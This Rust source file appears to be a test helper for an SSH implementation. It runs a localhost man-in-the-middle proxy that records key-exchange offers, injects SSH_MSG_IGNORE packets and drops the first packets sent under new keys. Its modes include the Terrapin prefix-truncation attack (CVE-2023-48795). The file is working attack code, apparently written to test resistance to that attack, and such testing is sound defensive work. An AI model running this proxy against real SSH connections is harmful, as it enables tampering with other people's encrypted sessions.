//! Somebody on the path between two ends of SSH: reads along while nothing is encrypted, puts packets in, takes packets out.
//! It never knows a key.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const KEXINIT: u8 = 20;
const NEWKEYS: u8 = 21;
/// SSH_MSG_IGNORE with nothing in it.
const IGNORE: [u8; 16] = [0, 0, 0, 12, 6, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
/// After so long without a byte the first packets under the new keys have come.
const QUIET: Duration = Duration::from_millis(300);

/// Where what is said is going.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Toward {
    Server,
    Client,
}

/// What is done to one direction.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Meddling {
    /// A message before all others.
    First,
    /// A message before the new keys.
    Inject,
    /// What comes first under the new keys is dropped.
    Drop,
    /// Both: the numbers of the packets are right again (CVE-2023-48795).
    Terrapin,
}

#[derive(Default)]
struct Seen {
    /// The first messages of key exchanges, as they went by.
    offers: Mutex<Vec<String>>,
    injected: AtomicUsize,
    dropped: AtomicUsize,
}

/// The one between, at a socket of its own.
pub struct Between {
    address: SocketAddr,
    seen: Arc<Seen>,
}

impl Between {
    /// Stands before `server`, and does this to every connection.
    pub fn before(server: SocketAddr, meddling: Option<(Toward, Meddling)>) -> Self {
        let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
        let (address, seen) = (listener.local_addr().unwrap(), Arc::new(Seen::default()));
        let noted = seen.clone();
        std::thread::spawn(move || {
            while let Ok((client, _)) = listener.accept() {
                let Ok(server) = TcpStream::connect(server) else { return };
                for stream in [&client, &server] {
                    stream.set_nodelay(true).unwrap();
                }
                for (from, to, toward) in
                    [(&client, &server, Toward::Server), (&server, &client, Toward::Client)]
                {
                    let done = meddling.filter(|(at, _)| *at == toward).map(|(_, done)| done);
                    let (from, to) = (from.try_clone().unwrap(), to.try_clone().unwrap());
                    // While the server's first words under new keys are taken away, the client's are held back.
                    let waits =
                        matches!(meddling, Some((Toward::Client, Meddling::Drop | Meddling::Terrapin)))
                            && toward == Toward::Server;
                    let seen = noted.clone();
                    std::thread::spawn(move || {
                        let _ = carry(&from, &to, done, waits, &seen);
                        let _ = to.shutdown(Shutdown::Both);
                        let _ = from.shutdown(Shutdown::Both);
                    });
                }
            }
        });
        Self { address, seen }
    }

    pub fn address(&self) -> SocketAddr {
        self.address
    }

    /// What was offered in the key exchanges that went by.
    pub fn offers(&self) -> Vec<String> {
        self.seen.offers.lock().unwrap().clone()
    }

    /// Packets that were put in.
    pub fn injected(&self) -> usize {
        self.seen.injected.load(Ordering::SeqCst)
    }

    /// Bytes that were taken away.
    pub fn dropped(&self) -> usize {
        self.seen.dropped.load(Ordering::SeqCst)
    }
}

fn carry(
    mut from: &TcpStream,
    mut to: &TcpStream,
    done: Option<Meddling>,
    waits: bool,
    seen: &Seen,
) -> io::Result<()> {
    to.write_all(&line(from)?)?;
    if done == Some(Meddling::First) {
        inject(to, seen)?;
    }
    loop {
        let packet = packet(from)?;
        let kind = packet[5];
        if kind == KEXINIT {
            seen.offers.lock().unwrap().push(String::from_utf8_lossy(&packet).into_owned());
        }
        if kind == NEWKEYS && matches!(done, Some(Meddling::Inject | Meddling::Terrapin)) {
            inject(to, seen)?;
        }
        to.write_all(&packet)?;
        if kind == NEWKEYS {
            break;
        }
    }
    if matches!(done, Some(Meddling::Drop | Meddling::Terrapin)) {
        seen.dropped.fetch_add(swallow(from)?, Ordering::SeqCst);
    }
    while waits && seen.dropped.load(Ordering::SeqCst) == 0 {
        std::thread::sleep(Duration::from_millis(5));
    }
    io::copy(&mut from, &mut to).map(drop)
}

fn inject(mut to: &TcpStream, seen: &Seen) -> io::Result<()> {
    seen.injected.fetch_add(1, Ordering::SeqCst);
    to.write_all(&IGNORE)
}

fn line(mut from: &TcpStream) -> io::Result<Vec<u8>> {
    let mut line = Vec::new();
    while !line.ends_with(b"\n") {
        let mut byte = [0];
        from.read_exact(&mut byte)?;
        line.push(byte[0]);
    }
    Ok(line)
}

/// A packet in the clear, whole.
fn packet(mut from: &TcpStream) -> io::Result<Vec<u8>> {
    let mut packet = vec![0; 4];
    from.read_exact(&mut packet)?;
    let length = u32::from_be_bytes(packet[..].try_into().unwrap());
    packet.resize(4 + usize::try_from(length).unwrap(), 0);
    from.read_exact(&mut packet[4..])?;
    Ok(packet)
}

/// Takes away what comes until nothing more does; how much that was.
fn swallow(mut from: &TcpStream) -> io::Result<usize> {
    let (mut taken, mut bytes) = (0, [0; 4096]);
    from.set_read_timeout(Some(QUIET))?;
    loop {
        match from.read(&mut bytes) {
            Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
            Ok(count) => taken += count,
            Err(why) if why.kind() == io::ErrorKind::WouldBlock && taken > 0 => break,
            Err(why) if why.kind() == io::ErrorKind::WouldBlock => {}
            Err(why) => return Err(why),
        }
    }
    from.set_read_timeout(None)?;
    Ok(taken)
}
